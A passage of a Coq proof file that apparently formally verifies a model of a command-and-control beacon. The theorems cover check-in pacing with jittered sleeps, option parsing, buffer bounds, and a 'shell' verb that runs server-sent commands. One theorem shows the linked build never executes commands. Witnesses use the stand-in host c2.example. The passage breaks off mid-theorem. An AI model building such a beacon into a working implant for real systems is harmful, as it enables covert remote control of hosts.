  apply negb_true_iff in He. rewrite He. reflexivity.
Qed.

Lemma beacon_start_outcome decode config s st :
  let '(rc, st', evs) := beacon_start decode config s st in
  occurrences is_popen evs = O
  /\ g_results st' = g_results st
  /\ g_result_count st' = g_result_count st
  /\ g_sysinfo st' = g_sysinfo st
  /\ (rc = 0 /\ g_running st' = 1 \/ rc = -1 /\ st' = st).
Proof.
  unfold beacon_start.
  pose proof (checkin_no_popen decode config (Some (g_sysinfo st)) None 0
                (first_net s)) as Hp.
  destruct (checkin decode config (Some (g_sysinfo st)) None 0 (first_net s))
    as [[crc commands] evs].
  cbn [snd] in Hp. apply no_popen_occurrences in Hp.
  destruct (crc =? 0); cbn; repeat split; auto.
Qed.

(** X2. Whatever commands the reply to the initial check-in carries, none
    is executed and none is kept: [beacon_start] spawns no subprocess and
    leaves the result buffer and the snapshot as they are; it sets the
    running flag on success and changes nothing on failure. *)
Theorem first_checkin_commands_are_dropped
    (decode : cstring -> list command_t) (config : beacon_config_t)
    (s : startup_env) (st : beacon_state) :
  let '(rc, st', evs) := beacon_start decode config s st in
  occurrences is_popen evs = O
  /\ g_results st' = g_results st
  /\ g_result_count st' = g_result_count st
  /\ g_sysinfo st' = g_sysinfo st
  /\ (rc = 0 /\ g_running st' = 1 \/ rc = -1 /\ st' = st).
Proof. apply beacon_start_outcome. Qed.

(** ** The pace of the requests *)

Lemma paced_app a : forall sent b,
  paced sent (a ++ b) = paced sent a && paced (pending sent a) b.
Proof.
  induction a as [| e a IH]; intros sent b; cbn; [reflexivity |].
  destruct (is_sleep e); [apply IH |].
  destruct (is_send e); [| apply IH].
  rewrite IH, andb_assoc. reflexivity.
Qed.

Lemma pending_app a : forall sent b,
  pending sent (a ++ b) = pending (pending sent a) b.
Proof.
  induction a as [| e a IH]; intros sent b; cbn; [reflexivity |].
  destruct (is_sleep e); [apply IH |].
  destruct (is_send e); apply IH.
Qed.

Lemma paced_only_popen evs : forall sent,
  forallb is_popen evs = true ->
  paced sent evs = true /\ pending sent evs = sent.
Proof.
  induction evs as [| e evs IH]; intros sent H; [split; reflexivity |].
  cbn in H. apply andb_prop in H as [He Ht].
  destruct e; cbn in He; try discriminate. cbn. apply IH, Ht.
Qed.

Lemma http_request_paced method url headers body n :
  paced false (snd (http_request method url headers body n)) = true.
Proof.
  unfold http_request.
  destruct (parse_url url) as [[[h p] pa] ssl].
  destruct (build_request method pa h headers body) as [rq len].
  destruct n; reflexivity.
Qed.

Lemma checkin_paced decode config sysinfo results n o :
  paced false (snd (checkin decode config sysinfo results n o)) = true.
Proof.
  unfold checkin, https_checkin, http_checkin, https_request.
  destruct (starts_with (lit "https://") (server_url config));
    rewrite checkin_outcome_events; apply http_request_paced.
Qed.

(** A round pauses first, so it may follow anything. *)
Lemma beacon_cycle_paced decode config e st sent :
  paced sent (snd (beacon_cycle decode config e st)) = true
  /\ occurrences is_sleep (snd (beacon_cycle decode config e st)) = 1%nat.
Proof.
  unfold beacon_cycle.
  pose proof (checkin_paced decode config None (Some (g_results st))
                (g_result_count st) (net e)) as Hp.
  pose proof (checkin_events decode config None (Some (g_results st))
                (g_result_count st) (net e)) as (Hs & _ & _).
  destruct (checkin decode config None (Some (g_results st))
                    (g_result_count st) (net e)) as [[rc commands] evs].
  cbn [snd] in Hp, Hs.
  destruct (rc =? 0).
  - pose proof (process_commands_events commands O (host e)
                  (mk_state (g_sysinfo st) (g_running st) (g_results st) 0))
      as Ho.
    destruct (process_commands commands 0 (host e) _) as [st' evs'].
    cbn [snd] in Ho. cbn [snd].
    destruct (only_popen_occurrences _ Ho) as [Hs' _].
    split.
    + cbn. rewrite paced_app, Hp.
      apply (paced_only_popen evs' _ Ho).
    + rewrite occurrences_cons, occurrences_app, Hs, Hs'. reflexivity.
  - cbn [snd]. split; [exact Hp |].
    rewrite occurrences_cons, Hs. reflexivity.
Qed.

Lemma beacon_main_loop_paced decode config cycles : forall st trace,
  paced false trace = true ->
  let trace' := outcome_trace (beacon_main_loop decode config cycles st trace) in
  paced false trace' = true
  /\ (occurrences is_sleep trace'
      <= occurrences is_sleep trace + length cycles)%nat.
Proof.
  induction cycles as [| e rest IH]; intros st trace Hp;
    cbn [beacon_main_loop length].
  - destruct (g_running st =? 0); cbn [outcome_trace]; split; auto; lia.
  - destruct (g_running st =? 0); [cbn [outcome_trace]; split; auto; lia |].
    pose proof (beacon_cycle_paced decode config e st (pending false trace))
      as [Hc Hs].
    destruct (beacon_cycle decode config e st) as [st' evs]. cbn [snd] in Hc, Hs.
    destruct (IH st' (trace ++ evs)) as [Hp' Hn].
    + rewrite paced_app, Hp, Hc. reflexivity.
    + split; [exact Hp' |].
      rewrite occurrences_app, Hs in Hn. lia.
Qed.

(** X3. In every run, from the start of the process on, a request is
    sent only after a pause since the request before it: no two requests
    follow each other without a [sleep] in between; and there are no more
    pauses than rounds. *)
Theorem requests_are_paced
    (decode : cstring -> list command_t) (argv : list cstring)
    (s : startup_env) (cycles : list cycle_env) :
  let trace := outcome_trace (main decode argv s cycles) in
  paced false trace = true
  /\ (occurrences is_sleep trace <= length cycles)%nat.
Proof.
  unfold main.
  destruct (main_config argv s) as [config |]; [| cbn; split; [reflexivity | lia]].
  destruct (beacon_initialize config s initial_state) as [rc st1].
  destruct (rc =? 0); cbn [negb]; [| cbn; split; [reflexivity | lia]].
  unfold beacon_start.
  pose proof (checkin_paced decode config (Some (g_sysinfo st1)) None 0
                (first_net s)) as Hp.
  pose proof (checkin_events decode config (Some (g_sysinfo st1)) None 0
                (first_net s)) as (Hs & _ & _).
  destruct (checkin decode config (Some (g_sysinfo st1)) None 0 (first_net s))
    as [[crc commands] evs].
  cbn [snd] in Hp, Hs.
  destruct (crc =? 0); cbn -[occurrences beacon_main_loop];
    [| split; [exact Hp | rewrite Hs; lia]].
  pose proof (beacon_main_loop_paced decode config cycles
                (mk_state (g_sysinfo st1) 1 (g_results st1) (g_result_count st1))
                evs Hp) as [Hp' Hn].
  cbn zeta in Hp', Hn. split; [exact Hp' | rewrite Hs in Hn; lia].
Qed.

(** ** The program as it is linked *)

Lemma beacon_cycle_program_events config e st :
  snd (beacon_cycle parse_commands_json config e st)
  = EvSleep (sleep_with_jitter (sleep_interval config) (jitter_percent config)
                               (rnd e))
    :: snd (checkin parse_commands_json config None (Some (g_results st))
                    (g_result_count st) (net e)).
Proof.
  unfold beacon_cycle.
  destruct (checkin parse_commands_json config None (Some (g_results st))
                    (g_result_count st) (net e)) as [[rc commands] evs] eqn:E.
  destruct (Z.eqb_spec rc 0) as [Hrc | Hrc]; [| reflexivity].
  assert (Hc : commands = []).
  { destruct (net e) as [| | | | raw] eqn:En;
      try (rewrite checkin_error in E by congruence; inversion E; lia).
    rewrite checkin_reply in E.
    destruct (parse_status raw =? 200); inversion E; subst; try lia.
    apply parse_commands_json_nil. }
  subst commands. cbn. rewrite app_nil_r. reflexivity.
Qed.

Lemma beacon_main_loop_program_idle config cycles : forall st trace,
  g_result_count st = 0 -> occurrences is_popen trace = O ->
  let o := beacon_main_loop parse_commands_json config cycles st trace in
  occurrences is_popen (outcome_trace o) = O
  /\ g_result_count (outcome_state o) = 0
  /\ g_results (outcome_state o) = g_results st.
Proof.
  induction cycles as [| e rest IH]; intros st trace Hc Hp; cbn.
  - destruct (g_running st =? 0); cbn; auto.
  - destruct (g_running st =? 0); [cbn; auto |].
    pose proof (beacon_cycle_program config e st) as Hst.
    pose proof (beacon_cycle_program_events config e st) as Hev.
    pose proof (checkin_no_popen parse_commands_json config None
                  (Some (g_results st)) (g_result_count st) (net e)) as Hn.
    apply no_popen_occurrences in Hn.
    destruct (beacon_cycle parse_commands_json config e st) as [st' evs].
    cbn [fst snd] in Hst, Hev.
    assert (Hc' : g_result_count st' = 0 /\ g_results st' = g_results st).
    { rewrite Hst. destruct (_ =? 0); cbn; auto. }
    destruct Hc' as [Hc' Hr'].
    destruct (IH st' (trace ++ evs) Hc') as (H1 & H2 & H3).
    + rewrite occurrences_app, Hp, Hev, occurrences_cons, Hn. reflexivity.
    + rewrite <- Hr'. auto.
Qed.

(** X4. The program as it is linked, with [parse_commands_json] as its
    decoder, never executes a command: in no run is a subprocess spawned,
    and the result buffer stays empty and its array untouched. *)
Theorem program_never_executes_commands
    (argv : list cstring) (s : startup_env) (cycles : list cycle_env) :
  let o := main parse_commands_json argv s cycles in
  occurrences is_popen (outcome_trace o) = O
  /\ g_result_count (outcome_state o) = 0
  /\ g_results (outcome_state o) = replicate 64 result_zero.
Proof.
  unfold main.
  destruct (main_config argv s) as [config |];
    [| cbn [outcome_trace outcome_state initial_state g_result_count g_results];
       auto].
  assert (Hinit : let st1 := snd (beacon_initialize config s initial_state) in
                  g_result_count st1 = 0
                  /\ g_results st1 = replicate 64 result_zero).
  { unfold beacon_initialize.
    destruct (build s) as [| r]; [| destruct (r =? 0)];
      cbn [negb snd collect_system_info fst g_result_count g_results
           initial_state Z.eqb]; auto. }
  destruct (beacon_initialize config s initial_state) as [rc st1].
  cbn [snd] in Hinit. destruct Hinit as [Hc Hr].
  destruct (rc =? 0); cbn [negb];
    [| cbn [outcome_trace outcome_state]; auto].
  pose proof (beacon_start_outcome parse_commands_json config s st1)
    as Hstart.
  destruct (beacon_start parse_commands_json config s st1) as [[rc' st2] evs].
  destruct Hstart as (Hp & Hr2 & Hc2 & _ & _).
  destruct (rc' =? 0); cbn [negb].
  - destruct (beacon_main_loop_program_idle config cycles st2 evs
                ltac:(congruence) Hp) as (H1 & H2 & H3).
    cbn zeta in *. repeat split; congruence.
  - cbn [outcome_trace outcome_state]. repeat split; congruence.
Qed.

(** ** The verbs *)

Lemma execute_shell_command_safe cmdline h :
  let '(rc, out, _) := execute_shell_command cmdline MAX_OUTPUT_SIZE h in
  overflow out = false /\ (rc = 0 \/ rc = 1).
Proof.
  unfold execute_shell_command.
  destruct (popen h cmdline) as [| stream status].
  - split; [reflexivity | left; reflexivity].
  - pose proof (shell_read_loop_safe MAX_OUTPUT_SIZE (length stream) stream
                  cbuf_empty 0 eq_refl eq_refl) as Hsafe.
    destruct (shell_read_loop (length stream) MAX_OUTPUT_SIZE stream
                cbuf_empty 0) as [out total].
    destruct Hsafe as (Hov & _ & _); [unfold MAX_OUTPUT_SIZE; lia |].
    split; [exact Hov |]. destruct (status =? 0); auto.
Qed.

(** X5. A verb other than [shell], [pwd] and [exit] is answered with a
    failed result whose output names the verb; the running flag stays as
    it is and nothing is spawned. *)
Theorem unknown_verb_result
    (cmd : command_t) (h : host_env) (running : Z) :
  command cmd <> lit "shell" -> command cmd <> lit "pwd" ->
  command cmd <> lit "exit" -> strlen (command cmd) < 256 ->
  execute_command cmd h running
  = (mk_result (take 63 (id cmd)) 0
       (lit "Unknown command: " ++ command cmd) (clock h),
     running, false, []).
Proof.
  intros Hs Hp He Hlen. unfold execute_command.
  rewrite (streq_neq _ _ Hs), (streq_neq _ _ Hp), (streq_neq _ _ He).
  unfold snprintf, strncpy, get_current_timestamp.
  rewrite (take_ge (lit "Unknown command: " ++ command cmd)).
  - reflexivity.
  - rewrite length_app. unfold strlen, MAX_OUTPUT_SIZE in *. cbn. lia.
Qed.

Lemma unknown_verb_result_witness :
  command (mk_command (lit "c7") (lit "frobnicate") (lit "now")) <> lit "shell"
  /\ execute_command (mk_command (lit "c7") (lit "frobnicate") (lit "now"))
                     quiet_host 1
     = (mk_result (lit "c7") 0 (lit "Unknown command: frobnicate")
                  (lit "2024-05-01T10:00:00Z"), 1, false, []).
Proof.
  split; [discriminate |].
  apply (unknown_verb_result
           (mk_command (lit "c7") (lit "frobnicate") (lit "now")) quiet_host 1);
    try discriminate.
  vm_compute. reflexivity.
Defined.

(** X6. Of all verbs only [shell] spawns a subprocess, once and with the
    arguments as the command line, and only [exit] changes the running
    flag, to 0.  Every result answers the command by its id, cut to 63
    bytes, carries the clock reading and a success flag of 0 or 1, and no
    write leaves its output array. *)
Theorem execute_command_effects
    (cmd : command_t) (h : host_env) (running : Z) :
  let '(r, running', out_of_bounds, evs) := execute_command cmd h running in
  (command cmd = lit "shell" -> evs = [EvPopen (args cmd)])
  /\ (command cmd <> lit "shell" -> evs = [])
  /\ (command cmd = lit "exit" -> running' = 0)
  /\ (command cmd <> lit "exit" -> running' = running)
  /\ command_id r = take 63 (id cmd)
  /\ timestamp r = clock h
  /\ (success r = 0 \/ success r = 1)
  /\ out_of_bounds = false.
Proof.
  unfold execute_command, strncpy, get_current_timestamp.
  destruct (streq (command cmd) (lit "shell")) eqn:Es.
  - apply streq_eq in Es.
    pose proof (execute_shell_command_safe (args cmd) h) as Hsafe.
    pose proof (execute_shell_command_events (args cmd) MAX_OUTPUT_SIZE h) as Hev.
    destruct (execute_shell_command (args cmd) MAX_OUTPUT_SIZE h)
      as [[ok out] evs].
    cbn [snd] in Hev. destruct Hsafe as [Hov Hok]. cbn [command_id timestamp success].
    rewrite Es. repeat split; auto; try congruence; discriminate.
  - assert (Hns : command cmd <> lit "shell").
    { intros Heq. rewrite Heq in Es. discriminate Es. }
    destruct (streq (command cmd) (lit "pwd")) eqn:Ep.
    + apply streq_eq in Ep.
      destruct (getcwd h); cbn [command_id timestamp success];
        rewrite Ep; repeat split; auto; try congruence; discriminate.
    + destruct (streq (command cmd) (lit "exit")) eqn:Ee.
      * apply streq_eq in Ee. cbn [command_id timestamp success].
        repeat split; auto; congruence.
      * assert (Hne : command cmd <> lit "exit").
        { intros Heq. rewrite Heq in Ee. discriminate Ee. }
        cbn [command_id timestamp success].
        repeat split; auto; congruence.
Qed.

(** ** The options of the command line *)

(** One round of the option loop. *)
Lemma parse_options_step opt value rest url bid ua sl ji vs px :
  parse_options (opt :: value :: rest) (mk_config url bid ua sl ji vs px)
  = if streq opt (lit "--sleep") then
      parse_options rest (mk_config url bid ua (atoi value) ji vs px)
    else if streq opt (lit "--jitter") then
      parse_options rest
        (mk_config url bid ua sl
           (if atoi value >? 50 then 50 else atoi value) vs px)
    else if streq opt (lit "--user-agent") then
      parse_options rest (mk_config url bid (strncpy value 255) sl ji vs px)
    else if streq opt (lit "--proxy") then
      parse_options rest (mk_config url bid ua sl ji vs (strncpy value 511))
    else if streq opt (lit "--beacon-id") then
      parse_options rest (mk_config url (strncpy value 36) ua sl ji vs px)
    else if streq opt (lit "--verify-ssl") then
      parse_options (value :: rest) (mk_config url bid ua sl ji 1 px)
    else parse_options rest (mk_config url bid ua sl ji vs px).
Proof. reflexivity. Qed.

(** A property of the configuration that every option keeps is kept by
    the whole option loop. *)
Lemma parse_options_invariant (P : beacon_config_t -> Prop) :
  (forall url bid ua sl ji vs px value,
     P (mk_config url bid ua sl ji vs px) ->
     P (mk_config url bid ua (atoi value) ji vs px)
     /\ P (mk_config url bid ua sl
             (if atoi value >? 50 then 50 else atoi value) vs px)
     /\ P (mk_config url bid (strncpy value 255) sl ji vs px)
     /\ P (mk_config url bid ua sl ji vs (strncpy value 511))
     /\ P (mk_config url (strncpy value 36) ua sl ji vs px)
     /\ P (mk_config url bid ua sl ji 1 px)) ->
  forall argv config, P config -> P (parse_options argv config).
Proof.
  intros Hstep.
  assert (H : forall n argv config,
             (length argv <= n)%nat -> P config -> P (parse_options argv config)).
  { induction n as [| n IH]; intros argv config Hn Hc.
    - destruct argv; [exact Hc | cbn in Hn; lia].
    - destruct argv as [| opt [| value rest]]; [exact Hc | exact Hc |].
      destruct config as [url bid ua sl ji vs px].
      destruct (Hstep url bid ua sl ji vs px value Hc)
        as (H1 & H2 & H3 & H4 & H5 & H6).
      cbn [length] in Hn. rewrite parse_options_step.
      repeat match goal with
             | |- context [if streq opt ?b then _ else _] =>
                 destruct (streq opt b)
             end;
        apply IH; cbn [length]; auto; lia. }
  intros argv config. apply (H (length argv)). lia.
Qed.

(** X7. Whatever the command line is, the jitter percent of the
    configuration [main] runs with is at most 50. *)
Theorem jitter_is_clamped
    (argv : list cstring) (s : startup_env) (config : beacon_config_t) :
  main_config argv s = Some config -> jitter_percent config <= 50.
Proof.
  unfold main_config. destruct argv as [| prog [| url options]]; try discriminate.
  intros H. injection H as <-.
  assert (Hj : jitter_percent
                 (parse_options options
                    (mk_config (strncpy url 511) [] USER_AGENT 60 10 0 [])) <= 50).
  { apply (parse_options_invariant (fun c => jitter_percent c <= 50));
      [| cbn; lia].
    intros u b a sl ji vs px value Hc. cbn in *.
    repeat split; try exact Hc.
    destruct (Z.gtb_spec (atoi value) 50); lia. }
  destruct (strlen _ =? 0); exact Hj.
Qed.

Lemma jitter_is_clamped_witness :
  exists config,
    main_config [lit "beacon"; lit "http://c2.example/api";
                 lit "--jitter"; lit "90"]
                (sample_startup NetConnectError) = Some config
    /\ jitter_percent config = 50 /\ jitter_percent config <= 50.
Proof.
  eexists. split; [reflexivity |]. split; [reflexivity |].
  apply (jitter_is_clamped
           [lit "beacon"; lit "http://c2.example/api"; lit "--jitter"; lit "90"]
           (sample_startup NetConnectError)).
  reflexivity.
Defined.

Lemma strlen_take (s : cstring) n : strlen (take n s) <= Z.of_nat n.
Proof. unfold strlen. rewrite length_take. lia. Qed.

Lemma main_config_fits argv s config :
  main_config argv s = Some config ->
  strlen (uuid s) < BEACON_ID_LEN -> config_fits config.
Proof.
  unfold main_config. destruct argv as [| prog [| url options]]; try discriminate.
  intros H Hu. injection H as <-.
  assert (Hf : config_fits
                 (parse_options options
                    (mk_config (strncpy url 511) [] USER_AGENT 60 10 0 []))).
  { apply (parse_options_invariant config_fits).
    - intros u b a sl ji vs px value (H1 & H2 & H3 & H4).
      unfold config_fits, strncpy, MAX_URL_LEN, BEACON_ID_LEN in *. cbn in *.
      pose proof (strlen_take value 255). pose proof (strlen_take value 511).
      pose proof (strlen_take value 36).
      repeat split; lia.
    - unfold config_fits, strncpy. cbn [server_url beacon_id user_agent proxy_url].
      pose proof (strlen_take url 511).
      unfold MAX_URL_LEN, BEACON_ID_LEN. repeat split; try lia;
        vm_compute; reflexivity. }
  destruct (strlen _ =? 0); [| exact Hf].
  destruct Hf as (H1 & H2 & H3 & H4).
  unfold config_fits. cbn. auto.
Qed.

(** X8. Whatever the command line is, the strings of the configuration
    fit the arrays of [beacon_config_t] with their terminating NUL, as
    long as the generated identifier does. *)
Theorem configuration_fits_its_arrays
    (argv : list cstring) (s : startup_env) (config : beacon_config_t) :
  main_config argv s = Some config ->
  strlen (uuid s) < BEACON_ID_LEN ->
  strlen (server_url config) < MAX_URL_LEN
  /\ strlen (beacon_id config) < BEACON_ID_LEN
  /\ strlen (user_agent config) < 256
  /\ strlen (proxy_url config) < MAX_URL_LEN.
Proof. apply main_config_fits. Qed.

Lemma configuration_fits_its_arrays_witness :
  exists config,
    main_config [lit "beacon"; lit "http://c2.example/api";
                 lit "--beacon-id";
                 lit "0123456789012345678901234567890123456789"]
                (sample_startup NetConnectError) = Some config
    /\ strlen (beacon_id config) = 36
    /\ strlen (beacon_id config) < BEACON_ID_LEN.
Proof.
  eexists. split; [reflexivity |]. split; [reflexivity |].
  apply (configuration_fits_its_arrays
           [lit "beacon"; lit "http://c2.example/api"; lit "--beacon-id";
            lit "0123456789012345678901234567890123456789"]
           (sample_startup NetConnectError)); [reflexivity |].
  vm_compute. reflexivity.
Defined.

(** ** Numbers in text: ["%d"] and [atoi] *)

Lemma atoi_digits_uint d : forall acc tail,
  ends_number tail = true ->
  atoi_digits (lit (NilEmpty.string_of_uint d) ++ tail) acc = uint_value d acc.
Proof.
  induction d; intros acc tail Ht; cbn;
    try (rewrite IHd by exact Ht; reflexivity).
  destruct tail as [| c tail]; cbn; [reflexivity |].
  cbn in Ht. apply negb_true_iff in Ht. rewrite Ht. reflexivity.
Qed.

Lemma uint_value_pos d : forall acc : positive,
  uint_value d (Z.pos acc) = Z.pos (Pos.of_uint_acc d acc).
Proof.
  induction d; intros acc; cbn [uint_value Pos.of_uint_acc];
    try reflexivity;
    match goal with
    | |- uint_value _ ?z = Z.pos (Pos.of_uint_acc _ ?q) =>
        replace z with (Z.pos q) by lia; apply IHd
    end.
Qed.

Lemma uint_value_0 d : uint_value d 0 = Z.of_N (Pos.of_uint d).
Proof.
  induction d; cbn [uint_value Pos.of_uint]; try reflexivity;
    try exact IHd;
    match goal with
    | |- uint_value _ ?z = _ =>
        let q := eval cbv in z in change z with q
    end;
    rewrite uint_value_pos; reflexivity.
Qed.

Lemma string_of_uint_digits d :
  forallb isdigit (lit (NilEmpty.string_of_uint d)) = true.
Proof. induction d; cbn; auto. Qed.

Lemma isdigit_plain c :
  isdigit c = true ->
  isspace c = false /\ Ascii.eqb c (ascii_of_nat 45) = false
  /\ Ascii.eqb c (ascii_of_nat 43) = false /\ Ascii.eqb c NUL = false
  /\ Ascii.eqb c SLASH = false /\ Ascii.eqb c COLON = false.
Proof.
  intros Hd.
  assert (Hne : forall k, isdigit (ascii_of_nat k) = false ->
                          Ascii.eqb c (ascii_of_nat k) = false).
  { intros k Hk. destruct (Ascii.eqb c (ascii_of_nat k)) eqn:E; [| reflexivity].
    apply Ascii.eqb_eq in E. subst c. congruence. }
  repeat split; try (apply Hne; reflexivity).
  unfold isdigit, isspace in *.
  apply andb_prop in Hd as [H1 H2]. apply Z.leb_le in H1, H2.
  destruct (Z.eqb_spec (code c) 32); [lia |].
  destruct (Z.leb_spec 9 (code c)); cbn; [| reflexivity].
  apply Z.leb_gt. lia.
Qed.

(** What ["%d"] prints for a positive number. *)
Lemma itoa_pos p : itoa (Z.pos p) = lit (NilEmpty.string_of_uint (Pos.to_uint p)).
Proof.
  unfold itoa. cbn [Z.to_int NilZero.string_of_int].
  pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hn.
  destruct (Pos.to_uint p); [contradiction | reflexivity ..].
Qed.

Lemma itoa_neg p :
  itoa (Z.neg p)
  = ascii_of_nat 45 :: lit (NilEmpty.string_of_uint (Pos.to_uint p)).
Proof.
  unfold itoa. cbn [Z.to_int NilZero.string_of_int].
  pose proof (DecimalPos.Unsigned.to_uint_nonnil p) as Hn.
  destruct (Pos.to_uint p); [contradiction | reflexivity ..].
Qed.

Lemma uint_head d :
  d <> Decimal.Nil ->
  exists c rest,
    lit (NilEmpty.string_of_uint d) = c :: rest /\ isdigit c = true.
Proof.
  intros Hn. destruct d; [contradiction | cbn; eauto ..].
Qed.

Lemma atoi_digits_pos p tail :
  ends_number tail = true ->
  atoi_digits (lit (NilEmpty.string_of_uint (Pos.to_uint p)) ++ tail) 0
  = Z.pos p.
Proof.
  intros Ht. rewrite atoi_digits_uint by exact Ht.
  rewrite uint_value_0, DecimalPos.Unsigned.of_to. reflexivity.
Qed.

(** The numeral ["%d"] has printed denotes the number printed, whatever
    follows that is not a digit. *)
Lemma decimal_value_itoa z tail :
  ends_number tail = true -> decimal_value (itoa z ++ tail) = z.
Proof.
  intros Ht. destruct z as [| p | p].
  - destruct tail as [| c tail]; [reflexivity |].
    cbn [ends_number] in Ht. apply negb_true_iff in Ht.
    change (decimal_value (itoa 0 ++ c :: tail))
      with (if isdigit c
            then atoi_digits tail ((0 * 10 + (48 - 48)) * 10 + (code c - 48))
            else 0 * 10 + (48 - 48)).
    rewrite Ht. reflexivity.
  - rewrite itoa_pos.
    pose proof (atoi_digits_pos p tail Ht) as Hv.
    destruct (uint_head (Pos.to_uint p) (DecimalPos.Unsigned.to_uint_nonnil p))
      as (c & rest & Heq & Hd).
    rewrite Heq in *. destruct (isdigit_plain c Hd) as (Hs & Hm & Hp & _).
    unfold decimal_value. cbn [app skip_space]. rewrite Hs, Hm, Hp. exact Hv.
  - rewrite itoa_neg.
    pose proof (atoi_digits_pos p tail Ht) as Hv.
    unfold decimal_value. cbn [app skip_space].
    change (isspace (ascii_of_nat 45)) with false. cbn iota.
    rewrite Ascii.eqb_refl, Hv. reflexivity.
Qed.

(** [atoi] on what ["%d"] has printed for a number a [long] holds: the
    number reduced to an [int]. *)
Lemma atoi_itoa_long z tail :
  ends_number tail = true -> LONG_MIN <= z <= LONG_MAX ->
  atoi (itoa z ++ tail) = wrap_int z.
Proof.
  intros Ht Hz. unfold atoi, strtol. rewrite decimal_value_itoa by exact Ht.
  f_equal. lia.
Qed.

(** [atoi] reads back what ["%d"] has printed for an [int]. *)
Lemma atoi_itoa z tail :
  ends_number tail = true -> -2147483648 <= z <= 2147483647 ->
  atoi (itoa z ++ tail) = z.
Proof.
  intros Ht Hz. rewrite atoi_itoa_long by (unfold LONG_MIN, LONG_MAX; auto; lia).
  apply wrap_int_small, Hz.
Qed.

Lemma atoi_range (s : cstring) : -2147483648 <= atoi s <= 2147483647.
Proof. apply wrap_int_range. Qed.

Lemma itoa_number_chars z : forallb is_number_char (itoa z) = true.
Proof.
  assert (H : forall d, forallb is_number_char
                          (lit (NilEmpty.string_of_uint d)) = true).
  { induction d; cbn; auto. }
  destruct z as [| p | p].
  - reflexivity.
  - rewrite itoa_pos. apply H.
  - rewrite itoa_neg. cbn. apply H.
Qed.

Lemma number_char_plain c :
  is_number_char c = true ->
  Ascii.eqb c NUL = false /\ Ascii.eqb c SLASH = false
  /\ Ascii.eqb c COLON = false.
Proof.
  unfold is_number_char. intros H. apply orb_prop in H as [H | H].
  - destruct (isdigit_plain c H) as (_ & _ & _ & H1 & H2 & H3). auto.
  - apply Ascii.eqb_eq in H. subst c. repeat split; reflexivity.
Qed.

(** X9. The numeric options are read back as they were printed as long
    as they are [int]s: after [--sleep n --jitter j] the configuration
    has the sleep interval [n] and the jitter percent [j], lowered to 50
    when it is above.  A number beyond the [int] range that a [long]
    still holds is stored reduced to its low 32 bits. *)
Theorem numeric_options_read_back
    (prog url : cstring) (n j : Z) (s : startup_env) :
  LONG_MIN <= n <= LONG_MAX -> LONG_MIN <= j <= LONG_MAX ->
  exists config,
    main_config [prog; url; lit "--sleep"; itoa n; lit "--jitter"; itoa j] s
    = Some config
    /\ sleep_interval config = wrap_int n
    /\ jitter_percent config = Z.min (wrap_int j) 50
    /\ (-2147483648 <= n <= 2147483647 -> sleep_interval config = n)
    /\ (-2147483648 <= j <= 2147483647 -> jitter_percent config = Z.min j 50).
Proof.
  intros Hn Hj. unfold main_config.
  rewrite parse_options_step.
  change (streq (lit "--sleep") (lit "--sleep")) with true. cbn iota.
  rewrite parse_options_step.
  change (streq (lit "--jitter") (lit "--sleep")) with false.
  change (streq (lit "--jitter") (lit "--jitter")) with true. cbn iota.
  cbn [parse_options].
  pose proof (atoi_itoa_long n [] eq_refl Hn) as Hvn.
  pose proof (atoi_itoa_long j [] eq_refl Hj) as Hvj.
  rewrite app_nil_r in Hvn, Hvj. rewrite Hvn, Hvj.
  eexists. split; [reflexivity |].
  assert (Hmin : (if wrap_int j >? 50 then 50 else wrap_int j)
                 = Z.min (wrap_int j) 50)
    by (destruct (Z.gtb_spec (wrap_int j) 50); lia).
  destruct (strlen _ =? 0); cbn [sleep_interval jitter_percent];
    rewrite Hmin; repeat split; intros Hr; rewrite wrap_int_small by exact Hr;
    reflexivity.
Qed.

Lemma numeric_options_read_back_witness :
  (LONG_MIN <= 4294967356 <= LONG_MAX /\ LONG_MIN <= 90 <= LONG_MAX)
  /\ exists config,
       main_config [lit "beacon"; lit "http://c2.example/api";
                    lit "--sleep"; itoa 4294967356; lit "--jitter"; itoa 90]
                   (sample_startup NetConnectError)
       = Some config
       /\ sleep_interval config = 60
       /\ jitter_percent config = 50.
Proof.
  assert (Hn : LONG_MIN <= 4294967356 <= LONG_MAX)
    by (unfold LONG_MIN, LONG_MAX; lia).
  assert (Hj : LONG_MIN <= 90 <= LONG_MAX)
    by (unfold LONG_MIN, LONG_MAX; lia).
  split; [split; assumption |].
  destruct (numeric_options_read_back (lit "beacon")
              (lit "http://c2.example/api") 4294967356 90
              (sample_startup NetConnectError) Hn Hj)
    as (config & Hc & Hs & Hjp & _ & Hj').
  exists config. split; [exact Hc |]. split.
  - rewrite Hs. reflexivity.
  - rewrite Hj' by lia. reflexivity.
Defined.

(** ** The verify flag *)

Lemma in_removelast_cons (x a : cstring) (l : list cstring) :
  In x (removelast l) -> In x (removelast (a :: l)).
Proof.
  destruct l as [| b l]; [intros [] |].
  intros H. change (removelast (a :: b :: l)) with (a :: removelast (b :: l)).
  right. exact H.
Qed.

Lemma parse_options_verify_unchanged : forall n argv config,
  (length argv <= n)%nat ->
  ~ In (lit "--verify-ssl") (removelast argv) ->
  verify_ssl (parse_options argv config) = verify_ssl config.
Proof.
  induction n as [| n IH]; intros argv config Hn Hnot.
  - destruct argv; [reflexivity | cbn in Hn; lia].
  - destruct argv as [| opt [| value rest]]; [reflexivity | reflexivity |].
    destruct config as [url bid ua sl ji vs px].
    change (removelast (opt :: value :: rest))
      with (opt :: removelast (value :: rest)) in Hnot.
    assert (Hopt : streq opt (lit "--verify-ssl") = false).
    { apply streq_neq. intros ->. apply Hnot. left. reflexivity. }
    assert (Hrest : ~ In (lit "--verify-ssl") (removelast rest)).
    { intros Hin. apply Hnot. right. apply in_removelast_cons, Hin. }
    cbn [length] in Hn. rewrite parse_options_step, Hopt.
    repeat match goal with
           | |- context [if streq opt ?b then _ else _] =>
               destruct (streq opt b)
           end;
      rewrite IH by (auto; lia); reflexivity.
Qed.

Lemma parse_options_verify_kept argv config :
  verify_ssl config = 1 -> verify_ssl (parse_options argv config) = 1.
Proof.
  apply (parse_options_invariant (fun c => verify_ssl c = 1)).
  intros u b a sl ji vs px value Hc. cbn in *. repeat split; auto.
Qed.

(** X10. [--verify-ssl] as the first option takes effect when an
    argument follows it, and then stays set whatever follows.  It takes
    no effect where the loop does not look for an option: as the last
    argument of the command line, and right behind another option, where
    it is passed over as the value of that option
    ([--sleep --verify-ssl x] leaves the flag off).  Without an
    occurrence before the last argument certificate verification stays
    off. *)
Theorem verify_flag_needs_a_following_argument
    (prog url : cstring) (options : list cstring) (s : startup_env) :
  exists config,
